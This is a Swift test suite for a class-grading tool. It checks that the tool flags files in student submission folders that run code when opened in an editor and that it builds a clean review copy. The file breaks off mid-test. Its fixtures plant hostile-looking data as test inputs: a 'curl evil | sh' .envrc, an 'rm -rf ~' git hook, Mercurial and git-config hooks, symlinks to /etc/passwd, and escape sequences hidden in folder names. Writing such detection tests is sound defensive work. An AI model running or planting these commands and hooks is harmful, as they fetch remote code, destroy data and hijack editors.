import ExerciseCatalog
import Foundation
import Testing
import XMLTestSupport
@testable import Grading
@testable import TerminalUI
@testable import WorkbookBasics
@testable import GradeRecords
@testable import ClassSubmissions
@testable import GradeDisplay
import WorkbookTestSupport

/// A student's folder may hold more than their exercises: what is neither an exercise nor
/// the workbook's own unchanged is named in the grade (marked when it is known to run when
/// an editor opens the folder), and the review copy holds none of it.
@Suite struct RunsWhenOpenedTests {
    typealias File = RunsWhenOpened.File
    let countdown = Exercise.named("Countdown")
    static let editorPackage = "// swift-tools-version: 6.1\n// the workbook's editor package\n"
    static let rootPackage = "// swift-tools-version: 5.9\n"

    /// A class of four: ada handed in just her Exercises/ with a manifest, editor settings and
    /// more of her own; bo a clone whose manifests are the workbook's but with a git hook of
    /// his own; cy a clone with the workbook's own manifests only; dee nothing but her exercise.
    /// The workbook is no git repository: its working tree is what is compared.
    func plantedClass() throws -> (workbook: TemporaryWorkbook, class: SubmissionsFolder) {
        let workbook = try TemporaryWorkbook(exercises: [countdown])
        try workbook.write(Self.editorPackage, to: "Exercises/Package.swift")
        try workbook.write(Self.rootPackage, to: "Package.swift")
        let group = SubmissionsFolder()
        try group.hand(in: "// ada's Countdown\n", as: "ada/Countdown.swift")
        try group.hand(in: "import Foundation // reads /etc/shadow\n", as: "ada/Package.swift")
        try group.hand(in: #"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#, as: "ada/.vscode/tasks.json")
        try group.hand(in: "curl evil | sh\n", as: "ada/.envrc")
        try group.hand(in: "all:\n\ttouch /tmp/x\n", as: "ada/notes/deep/Makefile")
        try group.hand(in: "to do\n", as: "ada/notes/todo.txt")
        try group.hand(in: "// bo's Countdown\n", as: "bo/Exercises/Countdown.swift")
        try group.hand(in: Self.editorPackage, as: "bo/Exercises/Package.swift")
        try group.hand(in: Self.rootPackage, as: "bo/Package.swift")
        try group.hand(in: "#!/bin/sh\nrm -rf ~\n", as: "bo/.git/hooks/post-checkout")
        try group.hand(in: "# sample\n", as: "bo/.git/hooks/pre-commit.sample")
        try group.hand(in: "// cy's Countdown\n", as: "cy/Exercises/Countdown.swift")
        try group.hand(in: Self.editorPackage, as: "cy/Exercises/Package.swift")
        try group.hand(in: Self.rootPackage, as: "cy/Package.swift")
        try group.hand(in: "// dee's Countdown\n", as: "dee/Exercises/Countdown.swift")
        return (workbook, group)
    }

    func record(_ roster: ClassRoster) -> GradeRecord {
        GradeRecord(exercises: [countdown], students: roster.students,
                    grades: roster.students.map { _ in [ExerciseResult(exercise: countdown, outcome: .notStarted)] })
    }

    /// The search over one student's folder, as the roster makes it.
    func search(_ folder: URL, workbook: WorkbookFiles) -> RunsWhenOpened {
        RunsWhenOpenedSearch(folder: folder, layout: SubmissionLayout(folder: folder), workbook: workbook).run()
    }

    /// A workbook that is a git repository of two commits: the first has `README.md` as
    /// `# v1` and `Tools/old.txt`; the second changes the README to `# v2` and removes the tool.
    func committedWorkbook() throws -> TemporaryWorkbook {
        let workbook = try TemporaryWorkbook(exercises: [countdown])
        try workbook.write("# v1\n", to: "README.md")
        try workbook.write("an old tool\n", to: "Tools/old.txt")
        try workbook.git("init", "-q")
        try workbook.git("add", "-A")
        try workbook.git("commit", "-qm", "one")
        try workbook.write("# v2\n", to: "README.md")
        try workbook.git("rm", "-q", "Tools/old.txt")
        try workbook.git("commit", "-qam", "two")
        return workbook
    }

    @Test func theGradeNamesWhatIsNeitherAnExerciseNorTheWorkbooksOwn() throws {
        let (workbook, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root)
        #expect(roster.students.map(\.submission.name) == ["ada", "bo", "cy", "dee"])
        #expect(roster.students.map(\.runsWhenOpened.files) == [
            [File(path: ".envrc", kind: .runsCode), File(path: ".vscode/", kind: .runsCode), File(path: "Package.swift", kind: .runsCode),
             File(path: "notes/", kind: .notWorkbooks), File(path: "notes/deep/Makefile", kind: .runsCode)],
            [File(path: ".git/hooks/post-checkout", kind: .runsCode)],
            [],
            [],
        ])
        #expect(roster.students.allSatisfy { $0.runsWhenOpened.complete })
        let record = record(roster)
        let ada = try #require(record.students[0].runsWhenOpened?.note)
        #expect(ada == "not graded, neither exercises nor the workbook's own — runs code when opened: .envrc, .vscode/, Package.swift, notes/deep/Makefile; not known to run: notes/ — do not open this folder in an editor, open the review copy")
        #expect(record.students[1].runsWhenOpened?.note == "not graded, neither exercises nor the workbook's own — runs code when opened: .git/hooks/post-checkout — do not open this folder in an editor, open the review copy")
        #expect(record.students[2].runsWhenOpened == nil)
        #expect(record.students[3].runsWhenOpened == nil)

        // The table, the JSON record (read back, and as a merge keeps it), CSV, JUnit and Gradescope.
        let table = ClassReport(record: record).table(terminal: Terminal(usesColor: false, width: 200))
        #expect(table.contains("ada\n  " + ada + "\n"))
        let json = try record.json()
        #expect(try GradeRecord.read(json, name: "x.json") == record)
        let students = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])["students"] as? [[String: Any]]
        let adaFiles = (students?[0]["runsWhenOpened"] as? [String: Any])?["files"] as? [[String: Any]]
        #expect(adaFiles?.map { $0["path"] as? String } == [".envrc", ".vscode/", "Package.swift", "notes/", "notes/deep/Makefile"])
        #expect(adaFiles?.map { $0["kind"] as? String } == ["runsCode", "runsCode", "runsCode", "notWorkbooks", "runsCode"])
        #expect(adaFiles?.allSatisfy { $0["workbooksOwn"] as? Bool == false } == true, "a reader of older records reads none as the workbook's")
        #expect(students?[2]["runsWhenOpened"] == nil)
        let csv = String(decoding: GradeCSV.csv(record), as: UTF8.self).components(separatedBy: "\r\n")
        #expect(csv[0].hasSuffix(",max score,runs when opened"))
        #expect(csv[1].hasSuffix(",\"" + ada + "\"")) // quoted: the note holds commas
        #expect(csv[3].hasSuffix(",\(record.maxScore),")) // cy: nothing to say
        let suites = try SerialXML.tree { GradeJUnit.junit(record) }.elements(named: "testsuite")
        #expect(suites[0].elements(named: "system-err").first?.stringValue == ada)
        #expect(suites[2].elements(named: "system-err").isEmpty)
        let one = GradeRecord(exercises: [countdown], students: [record.students[0]])
        let gradescope = try #require(try JSONSerialization.jsonObject(with: try GradescopeResults.json(one)) as? [String: Any])
        #expect(gradescope["output"] as? String == ada)
    }

    /// Without the workbook to compare with, every file but an exercise is the student's:
    /// the warning is never softened by default.
    @Test func withoutTheWorkbookEveryFileButAnExerciseIsAFinding() throws {
        let (_, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        #expect(roster.students[2].runsWhenOpened.files == [File(path: "Exercises/Package.swift", kind: .runsCode), File(path: "Package.swift", kind: .runsCode)])
        #expect(roster.students[2].runsWhenOpened.mayRunCode)
        #expect(roster.students[3].runsWhenOpened.isEmpty)
    }

    /// The red team's way in (a Mercurial hook that ran as root on a prompt's `hg status`),
    /// the other version-control systems and editors the old list of names did not have, and a
    /// dotfile no list knows: each is named, the known ones as running code.
    @Test func versionControlAndEditorFilesAndUnknownDotfilesAreFindings() throws {
        let (workbook, group) = try plantedClass()
        try group.hand(in: "[hooks]\npre-status = id > /tmp/owned\n", as: "cy/.hg/hgrc")
        try group.hand(in: "[hooks]\n", as: "cy/.sl/config")
        try group.hand(in: "[ui]\n", as: "cy/.jj/repo/config.toml")
        try group.hand(in: "call system('id')\n", as: "cy/.lvimrc")
        try group.hand(in: "import os\n", as: "cy/Exercises/.ycm_extra_conf.py")
        try group.hand(in: "anything\n", as: "cy/.whatever")
        let roster = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root)
        let cy = roster.students[2].runsWhenOpened
        #expect(cy.files == [
            File(path: ".hg/", kind: .runsCode), File(path: ".jj/", kind: .runsCode), File(path: ".lvimrc", kind: .runsCode),
            File(path: ".sl/", kind: .runsCode), File(path: ".whatever", kind: .notWorkbooks),
            File(path: "Exercises/.ycm_extra_conf.py", kind: .runsCode),
        ])
        #expect(cy.note?.hasPrefix("not graded, neither exercises nor the workbook's own — runs code when opened: .hg/, .jj/, .lvimrc, .sl/, Exercises/.ycm_extra_conf.py; not known to run: .whatever — ") == true, "\(cy.note ?? "")")
    }

    @Test func namesKnownToRunOrToRunNothing() {
        for name in ["Package.swift", "package.swift", "Package@swift-5.9.swift", "Package.resolved", ".vscode", ".git", "Makefile",
                     "App.xcodeproj", "Try.playground", "work.code-workspace", "buildServer.json", ".envrc", ".devcontainer",
                     ".nvimrc", ".vim", "CMakeLists.txt", "Cargo.toml", "package.json", ".hg", ".HG", ".sl", ".jj", ".lvimrc",
                     ".ycm_extra_conf.py", ".build", ".build-release", ".workbook", ".swiftpm"] {
            #expect(KnownNames.kind(of: name) == .runsCode, "\(name)")
        }
        for name in [".DS_Store", "__MACOSX", "._Countdown.swift"] {
            #expect(KnownNames.kind(of: name) == .notCode, "\(name)")
        }
        for name in ["Countdown.swift", "README.md", "Packages.swift", "vscode", "Exercises", ".whatever", "hg"] {
            #expect(KnownNames.kind(of: name) == .notWorkbooks, "\(name)")
        }
    }

    /// A file is the workbook's own when some commit held those bytes at that path, however
    /// old (a student may clone any commit); changed, or at another path, it is a finding.
    @Test func aWorkbookFileAsAnOlderCommitHeldItIsTheWorkbooksOwn() throws {
        let workbook = try committedWorkbook()
        let files = WorkbookFiles(root: workbook.root)
        guard case .history = files.source else {
            Issue.record("the workbook's git history was not read")
            return
        }
        let group = SubmissionsFolder()
        for student in ["old", "changed", "moved"] { try group.hand(in: "// \(student)'s Countdown\n", as: "\(student)/Exercises/Countdown.swift") }
        try group.hand(in: "# v1\n", as: "old/README.md")
        try group.hand(in: "an old tool\n", as: "old/Tools/old.txt")
        try group.hand(in: "# v2 and mine\n", as: "changed/README.md")
        try group.hand(in: "# v1\n", as: "moved/NOTES.md")
        try group.hand(in: "an old tool\n", as: "moved/Tools/new.txt")
        #expect(search(group.folder.appendingPathComponent("old"), workbook: files).isEmpty)
        #expect(search(group.folder.appendingPathComponent("changed"), workbook: files).files == [File(path: "README.md", kind: .notWorkbooks)])
        #expect(search(group.folder.appendingPathComponent("moved"), workbook: files).files == [File(path: "NOTES.md", kind: .notWorkbooks), File(path: "Tools/new.txt", kind: .notWorkbooks)])
        // Compared with the working tree alone, the older README would be a finding.
        #expect(search(group.folder.appendingPathComponent("old"), workbook: WorkbookFiles(source: .workingTree(workbook.root))).files.map(\.path) == ["README.md", "Tools/"])
        // The roster reads the history once for the class, the same way.
        let roster = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root)
        #expect(roster.students.map(\.submission.name) == ["changed", "moved", "old"])
        #expect(roster.students.map(\.runsWhenOpened.files.count) == [1, 2, 0])
    }

    /// The blob names are git's: the same as `git hash-object` prints.
    @Test func blobNamesAreGits() throws {
        let workbook = try TemporaryWorkbook(exercises: [])
        for (index, bytes) in [Data(), Data("hello\n".utf8), Data((0..<70_000).map { UInt8(truncatingIfNeeded: $0 &* 7) })].enumerated() {
            try bytes.write(to: workbook.root.appendingPathComponent("f\(index)"))
            let expected = try workbook.git("hash-object", "f\(index)").trimmingCharacters(in: .whitespacesAndNewlines)
            #expect(GitBlobID.of(bytes) == expected, "\(bytes.count) bytes")
        }
    }

    /// A fresh `git clone` has nothing to name, its `.git/` included; a hook, or a config key
    /// a clone does not write, is named as running code.
    @Test func aPlainClonesGitFolderIsExpectedAndWhatInItRunsIsNot() throws {
        let workbook = try committedWorkbook()
        let files = WorkbookFiles(root: workbook.root)
        let group = SubmissionsFolder()
        try FileManager.default.createDirectory(at: group.folder, withIntermediateDirectories: true)
        let kim = group.folder.appendingPathComponent("kim")
        try workbook.git("clone", "-q", workbook.root.path, kim.path)
        #expect(search(kim, workbook: files) == RunsWhenOpened(files: [], complete: true))

        let git = kim.appendingPathComponent(".git")
        try Data("#!/bin/sh\nid\n".utf8).write(to: git.appendingPathComponent("hooks/post-checkout"))
        #expect(search(kim, workbook: files).files == [File(path: ".git/hooks/post-checkout", kind: .runsCode)])
        try FileManager.default.removeItem(at: git.appendingPathComponent("hooks/post-checkout"))

        let config = git.appendingPathComponent("config")
        let plain = try Data(contentsOf: config)
        #expect(PlainCloneConfig.review(plain) == .plain, "\(String(decoding: plain, as: UTF8.self))")
        for (added, key) in [("[include]\n\tpath = ../../evil\n", "include.path"), ("[core]\n\tfsmonitor = id\n", "core.fsmonitor"),
                             ("[core]\n\thooksPath = /tmp/hooks\n", "core.hookspath"), ("[includeIf \"gitdir:/\"]\n\tpath = x\n", "includeif.gitdir:/.path")] {
            try (plain + Data(added.utf8)).write(to: config)
            #expect(search(kim, workbook: files).files == [File(path: ".git/config", kind: .runsCode, detail: key)], "\(key)")
        }
        // A key that runs nothing is still not a plain clone's: named, not marked.
        try (plain + Data("[user]\n\temail = kim@example.com\n".utf8)).write(to: config)
        #expect(search(kim, workbook: files).files == [File(path: ".git/config", kind: .notWorkbooks, detail: "user.email")])
        try plain.write(to: config)
        try Data("gitdir: /elsewhere\n".utf8).write(to: git.appendingPathComponent("commondir"))
        try FileManager.default.createDirectory(at: git.appendingPathComponent("modules/x"), withIntermediateDirectories: true)
        #expect(search(kim, workbook: files).files == [File(path: ".git/commondir", kind: .runsCode), File(path: ".git/modules/", kind: .runsCode)])
    }

    /// The config is read on its bytes, as git would, and whatever this reader cannot read as
    /// git does is a finding: a key git reads can never pass unseen.
    @Test func aConfigIsReadStrictly() {
        func review(_ text: String) -> PlainCloneConfig.Verdict { PlainCloneConfig.review(Data(text.utf8)) }
        let clone = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://example.com/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"
        #expect(review(clone) == .plain)
        #expect(review(clone.replacingOccurrences(of: "\n", with: "\r\n") + "# a comment\n; another\n\n") == .plain)
        #expect(review("[Core]\n\tBare\n") == .plain)
        #expect(review("[remote \"origin\"]\n\turl = \"x ; [core] fsmonitor = y\" ; fsmonitor = z\n") == .plain)
        #expect(review("[core] fsmonitor = id\n") == .unexpected(["core.fsmonitor"]))
        #expect(review("[core]fsmonitor=id\n") == .unexpected(["core.fsmonitor"]))
        #expect(review("[CORE]\n\tHooksPath = /x\n\thookspath = /y\n") == .unexpected(["core.hookspath"]))
        #expect(review("[core \"x\"]\n\tbare = true\n") == .unexpected(["core.x.bare"]))
        #expect(review("[remote]\n\turl = x\n") == .unexpected(["remote.url"]))
        #expect(review("[remote \"o\"]\n\tuploadpack = id\n") == .unexpected(["remote.o.uploadpack"]))
        for unreadable in ["[remote \"o\"]\n\turl = x\\\n[core]\n", "[core.x]\n\tbare = true\n", "[core!\"x\"]\n", "[remote \"o\"]\n\turl = \"x\n",
                           "\tbare = true\n", "[core]\n\t bare # on\n", "[core]\n\t-bare = 1\n", "\u{FEFF}[core]\n", "[core]\n\tbare\0 = 1\n", "[core\n"] {
            guard case .unreadable = review(unreadable) else {
                Issue.record("read as git's: \(unreadable.debugDescription)")
                continue
            }
        }
        #expect(PlainCloneConfig.runsCode("core.fsmonitor") && PlainCloneConfig.runsCode("includeif.gitdir:/x.path") && !PlainCloneConfig.runsCode("user.email"))
    }

    /// A config too large for a clone's, or that is not a plain file, is a finding without
    /// being read whole.
    @Test func aConfigTooLargeOrLinkedIsAFinding() throws {
        let group = SubmissionsFolder()
        try group.hand(in: "// x\n", as: "lee/Countdown.swift")
        try group.hand(in: "[core]\n" + String(repeating: "\tbare = true\n", count: 10_000), as: "lee/.git/config")
        let lee = group.folder.appendingPathComponent("lee")
        let large = search(lee, workbook: .nothing).files
        #expect(large.map(\.path) == [".git/config"] && large.first?.kind == .runsCode)
        #expect(large.first?.detail?.hasSuffix("bytes, more than a clone's config") == true, "\(large)")
        try FileManager.default.removeItem(at: lee.appendingPathComponent(".git/config"))
        try FileManager.default.createSymbolicLink(atPath: lee.appendingPathComponent(".git/config").path, withDestinationPath: "/etc/gitconfig")
        #expect(search(lee, workbook: .nothing).files == [File(path: ".git/config", kind: .runsCode)])
    }

    /// Build folders are one entry each and never searched, however many files they hold; a
    /// clone's `.git/objects` is not even counted.
    @Test func buildFoldersAreOneEntryNeverSearched() throws {
        let (workbook, group) = try plantedClass()
        try group.hand(in: "{}", as: "lee/.build/checkouts/x/.vscode/tasks.json")
        try group.hand(in: "x", as: "lee/.swiftpm/configuration/mirrors.json")
        try group.hand(in: "x", as: "lee/.workbook/progress.json")
        try group.hand(in: "x", as: "lee/Exercises/.build/x")
        try group.hand(in: "// lee's Countdown\n", as: "lee/Exercises/Countdown.swift")
        let lee = group.folder.appendingPathComponent("lee")
        for folder in [".build/many", ".git/objects/ab"] {
            let url = lee.appendingPathComponent(folder)
            try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
            for index in 0..<RunsWhenOpenedSearch.entryLimit { _ = FileManager.default.createFile(atPath: url.appendingPathComponent("f\(index)").path, contents: nil) }
        }
        let found = search(lee, workbook: WorkbookFiles(root: workbook.root))
        #expect(found == RunsWhenOpened(files: [File(path: ".build/", kind: .runsCode), File(path: ".swiftpm/", kind: .runsCode),
                                                File(path: ".workbook/", kind: .runsCode), File(path: "Exercises/.build/", kind: .runsCode)], complete: true))
    }

    /// What a Mac leaves is named as running nothing, and alone it does not raise the alarm;
    /// anything else inside `__MACOSX/` is named for itself.
    @Test func whatAMacLeavesRunsNothing() throws {
        let (workbook, group) = try plantedClass()
        try group.hand(in: "// mac's Countdown\n", as: "mac/Exercises/Countdown.swift")
        try group.hand(in: "x", as: "mac/.DS_Store")
        try group.hand(in: "x", as: "mac/Exercises/._Countdown.swift")
        try group.hand(in: "x", as: "mac/__MACOSX/Exercises/._Countdown.swift")
        let mac = group.folder.appendingPathComponent("mac")
        let files = WorkbookFiles(root: workbook.root)
        let found = search(mac, workbook: files)
        #expect(found.files == [File(path: ".DS_Store", kind: .notCode), File(path: "Exercises/._Countdown.swift", kind: .notCode), File(path: "__MACOSX/", kind: .notCode)])
        #expect(!found.mayRunCode)
        #expect(found.note == "not graded, neither exercises nor the workbook's own — runs nothing: .DS_Store, Exercises/._Countdown.swift, __MACOSX/ — open the review copy all the same")
        try group.hand(in: "id\n", as: "mac/__MACOSX/run.sh")
        let more = search(mac, workbook: files)
        #expect(more.files.last == File(path: "__MACOSX/run.sh", kind: .notWorkbooks))
        #expect(more.mayRunCode)
    }

    /// A grade names the most alarming findings up to a bound and counts the rest: one
    /// folder of thousands cannot fill the class's records.
    @Test func findingsAreNamedUpToABoundTheMostAlarmingFirst() throws {
        let (workbook, group) = try plantedClass()
        for index in 0..<100 { try group.hand(in: "//\n", as: "junk/Exercises/Junk\(index).swift") }
        try group.hand(in: "x", as: "junk/zz/.envrc")
        let found = search(group.folder.appendingPathComponent("junk"), workbook: WorkbookFiles(root: workbook.root))
        #expect(found.files.count == RunsWhenOpened.namedLimit)
        #expect(found.unnamed == 102 - RunsWhenOpened.namedLimit)
        #expect(found.files.contains(File(path: "zz/.envrc", kind: .runsCode)))
        #expect(found.files.filter { $0.kind == .notWorkbooks }.map(\.path) == Array((0..<100).map { "Exercises/Junk\($0).swift" }.sorted().prefix(RunsWhenOpened.namedLimit - 1)))
        #expect(found.note?.contains("; and \(102 - RunsWhenOpened.namedLimit) more — do not open") == true, "\(found.note ?? "")")
        let record = GradeRecord.Student(name: "junk", problems: [], exercises: [], runsWhenOpened: found)
        let json = try JSONEncoder().encode(record)
        #expect(try JSONDecoder().decode(GradeRecord.Student.self, from: json) == record)
    }

    /// A record written before findings had a kind is read as it meant: each file named then
    /// runs code, and one it marked as the workbook's own is no finding now.
    @Test func aRecordWrittenBeforeKindsIsReadAsItMeant() throws {
        let old = #"{"files": [{"path": "Package.swift", "workbooksOwn": true}, {"path": ".vscode/", "workbooksOwn": false}], "complete": true}"#
        let read = try JSONDecoder().decode(RunsWhenOpened.self, from: Data(old.utf8))
        #expect(read == RunsWhenOpened(files: [File(path: ".vscode/", kind: .runsCode)], complete: true))
        let onlyOwn = #"{"files": [{"path": "Package.swift", "workbooksOwn": true}], "complete": true}"#
        #expect(try JSONDecoder().decode(RunsWhenOpened.self, from: Data(onlyOwn.utf8)).isEmpty)
    }

    /// A grade names a student's file as the student sees it, `Exercises/Countdown.swift`,
    /// never by the instructor's path to the class (issue 33: nothing of the instructor's
    /// tree in a message), whether the submission is a clone or a bare `Exercises/`.
    @Test func pathsInGradesAreTheStudentsOwn() throws {
        let (_, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: group.folder.path)
        let countdown = Exercise.named("Countdown")
        #expect(roster.students.map { $0.submission.displayPath(of: countdown) } == Array(repeating: "Exercises/Countdown.swift", count: 4))
        #expect(roster.students.flatMap(\.problems).allSatisfy { !$0.contains(group.folder.path) })
    }

    /// A student's folder that links to another student's is refused, not graded as theirs
    /// (a class unpacked from archives keeps such links; red team, kit round, A7), and not
    /// searched through the link.
    @Test func aStudentsFolderThatLinksToAnothersIsNotGradedAsTheirs() throws {
        let (_, group) = try plantedClass()
        let first = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first)
        let link = group.folder.appendingPathComponent("zz-copier")
        try FileManager.default.createSymbolicLink(atPath: link.path, withDestinationPath: group.folder.appendingPathComponent(first.submission.name).path)
        let copier = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first { $0.submission.name == "zz-copier" })
        #expect(!PlainFile.isRealFolder(copier.submission.folder), "grading refuses the submission: \(copier.submission.folder.path)")
        #expect(copier.problems == ["class/zz-copier is a symbolic link, not a folder of the class; nothing in it was graded"])
        #expect(copier.runsWhenOpened == RunsWhenOpened(files: [], complete: false))
    }

    /// Thousands of files that are not exercises are named up to a bound, then counted: one
    /// student's folder cannot fill the class's records (red team, kit round 2: R3).
    @Test func filesThatAreNotExercisesAreNamedUpToABoundThenCounted() throws {
        let (_, group) = try plantedClass()
        for index in 0..<500 { try group.hand(in: "//\n", as: "junk/Exercises/Junk\(index).swift") }
        let junk = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first { $0.submission.name == "junk" })
        #expect(junk.problems.count == ClassRoster.namedStrangers + 2, "\(junk.problems.count)")
        #expect(junk.problems.last == "and \(500 - ClassRoster.namedStrangers) more files in Exercises/ that are not exercises; none was graded")
    }

    /// A manifest changed by one byte, or a link to the workbook's own, is not the workbook's.
    @Test func aChangedOrLinkedManifestIsTheStudents() throws {
        let (workbook, group) = try plantedClass()
        try group.hand(in: Self.editorPackage + "// and more\n", as: "cy/Exercises/Package.swift")
        try FileManager.default.removeItem(at: group.folder.appendingPathComponent("cy/Package.swift"))
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("cy/Package.swift").path,
                                                   withDestinationPath: workbook.root.appendingPathComponent("Package.swift").path)
        let cy = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root).students[2]
        #expect(cy.runsWhenOpened.files == [File(path: "Exercises/Package.swift", kind: .runsCode), File(path: "Package.swift", kind: .runsCode)])
    }

    /// A link is judged by its own name and never followed; the search stops at its bounds and
    /// then says it is incomplete.
    @Test func theSearchFollowsNoLinkAndSaysWhereItStopped() throws {
        let group = SubmissionsFolder()
        try group.hand(in: "x\n", as: "elsewhere/.vscode/settings.json")
        try group.hand(in: "// ok\n", as: "eve/Countdown.swift")
        let eve = group.folder.appendingPathComponent("eve")
        try FileManager.default.createSymbolicLink(atPath: eve.appendingPathComponent("linked").path, withDestinationPath: "../elsewhere")
        try FileManager.default.createSymbolicLink(atPath: eve.appendingPathComponent(".sourcekit-lsp").path, withDestinationPath: "/")
        try FileManager.default.createSymbolicLink(atPath: eve.appendingPathComponent("MyAssign.swift").path, withDestinationPath: "/etc/passwd")
        let found = search(eve, workbook: .nothing)
        #expect(found == RunsWhenOpened(files: [File(path: ".sourcekit-lsp", kind: .runsCode), File(path: "MyAssign.swift", kind: .notWorkbooks),
                                                File(path: "linked", kind: .notWorkbooks)], complete: true))

        // Depth: a folder at the bound is not searched, one just above it is.
        let deep = (1...RunsWhenOpenedSearch.depthLimit).map { "d\($0)" }.joined(separator: "/")
        try group.hand(in: "x\n", as: "fay/\(deep)/.envrc")
        let fay = search(group.folder.appendingPathComponent("fay"), workbook: .nothing)
        #expect(fay.files == [File(path: "d1/", kind: .notWorkbooks)])
        #expect(!fay.complete)
        #expect(fay.note?.contains("and maybe more") == true)
        #expect(fay.note?.hasSuffix("do not open this folder in an editor, open the review copy") == true)
        let shallower = (1..<RunsWhenOpenedSearch.depthLimit).map { "d\($0)" }.joined(separator: "/")
        try group.hand(in: "x\n", as: "gus/\(shallower)/.envrc")
        let gus = search(group.folder.appendingPathComponent("gus"), workbook: .nothing)
        #expect(gus == RunsWhenOpened(files: [File(path: "d1/", kind: .notWorkbooks), File(path: shallower + "/.envrc", kind: .runsCode)], complete: true))

        // Entries: past the budget nothing more is looked at.
        let many = group.folder.appendingPathComponent("gil/many")
        try FileManager.default.createDirectory(at: many, withIntermediateDirectories: true)
        for index in 0..<RunsWhenOpenedSearch.entryLimit { _ = FileManager.default.createFile(atPath: many.appendingPathComponent("f\(index)").path, contents: nil) }
        try group.hand(in: "x\n", as: "gil/zz/Makefile")
        let gil = search(group.folder.appendingPathComponent("gil"), workbook: .nothing)
        #expect(!gil.complete)
        #expect(gil.files == [File(path: "many/", kind: .notWorkbooks), File(path: "zz/", kind: .notWorkbooks)])
    }

    /// The workbook's own history, some 700 commits, is read in well under a second or two,
    /// once per grading; its committed files are its own.
    @Test(.enabled(if: FileManager.default.fileExists(atPath: BuiltWorkbook.packageRoot.appendingPathComponent(".git").path), "a git checkout of the workbook"))
    func theWorkbooksOwnHistoryIsReadOnceQuickly() throws {
        let root = BuiltWorkbook.packageRoot
        let started = Date()
        let history = try WorkbookHistory(root: root)
        let seconds = Date().timeIntervalSince(started)
        print("the workbook's history: \(history.versions.count) paths, \(history.versions.values.map(\.count).reduce(0, +)) versions, read in \(String(format: "%.2f", seconds)) s")
        #expect(seconds < 10)
        let license = try Data(contentsOf: root.appendingPathComponent("LICENSE"))
        #expect(history.versions["LICENSE"]?.contains(.init(id: GitBlobID.of(license), size: license.count)) == true)
        #expect(history.folders.contains("Sources/ClassSubmissions") && history.folders.contains("Exercises"))
    }
}

/// `grade --review DIR`: only the plain exercise files graded, nothing else.
@Suite struct ReviewCopyTests {
    @Test func holdsOnlyThePlainExerciseFilesGraded() throws {
        let (workbook, group) = try RunsWhenOpenedTests().plantedClass()
        _ = workbook
        try group.hand(in: "// a scratch file\n", as: "bo/Exercises/Scratch.swift")
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("cy/Exercises/MyAssign.swift").path,
                                                   withDestinationPath: "/etc/passwd")
        try group.hand(in: "// eve's Countdown\n", as: "eve\u{1B}[2J\n/Countdown.swift")
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }

        let names = try ReviewCopy(folder: review, displayName: "review").write(roster.students.map(\.submission), exercises: [.named("Countdown"), .named("MyAssign")])
        #expect(names == ["ada", "bo", "cy", "dee", #"eve\u{1B}[2J\u{A}"#])
        #expect(try ClassroomFilesTests.files(in: review) == [
            "ada/Exercises/Countdown.swift", "bo/Exercises/Countdown.swift", "cy/Exercises/Countdown.swift",
            "dee/Exercises/Countdown.swift", #"eve\u{1B}[2J\u{A}/Exercises/Countdown.swift"#,
        ])
        #expect(FileManager.default.contents(atPath: review.appendingPathComponent("ada/Exercises/Countdown.swift").path) == Data("// ada's Countdown\n".utf8))

        // A folder that is not new or empty is refused, before anything is written.
        #expect(throws: WorkbookError("--review review: not a new or empty folder; give one for the review copy")) {
            try ReviewCopy(folder: review, displayName: "review")
        }
    }

    /// What grading refused through a link is not copied either, and a name whose escapes
    /// make it too long for a folder is cut, not an error for the whole class (red team,
    /// kit round 2: R1, R2).
    @Test func aLinkedSubmissionIsCopiedAsNothingAndALongNameIsCut() throws {
        let (_, group) = try RunsWhenOpenedTests().plantedClass()
        let ada = group.folder.appendingPathComponent("ada")
        try FileManager.default.createDirectory(at: group.folder.appendingPathComponent("mal"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("mal/Exercises").path, withDestinationPath: "../ada/Exercises")
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("mal2").path, withDestinationPath: ada.path)
        let long = String(repeating: "\u{1}", count: 60)
        try group.hand(in: "// a long name's Countdown\n", as: long + "/Exercises/Countdown.swift")
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }
        let names = try ReviewCopy(folder: review, displayName: "review").write(roster.students.map(\.submission), exercises: [.named("Countdown")])
        let files = try ClassroomFilesTests.files(in: review)
        #expect(!files.contains { $0.hasPrefix("mal/") || $0.hasPrefix("mal2/") }, "\(files)")
        let cut = try #require(names.first { $0.hasPrefix("\\u{1}") })
        #expect(cut.utf8.count <= ReviewCopy.nameLimit && cut.hasSuffix("…"))
        #expect(files.contains(cut + "/Exercises/Countdown.swift"))
    }

    @Test func folderNamesShowWhatTheyAreAndNeverCollide() throws {
        #expect(ReviewCopy.folderName(for: "ada") == "ada")
        #expect(ReviewCopy.folderName(for: "..") == #"\u{2E}."#)
        #expect(ReviewCopy.folderName(for: "a\u{202E}b") == #"a\u{202E}b"#)
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }
        let twins = [Submission(name: "a\u{7}", folder: review, displayFolder: "x"), Submission(name: #"a\u{7}"#, folder: review, displayFolder: "y")]
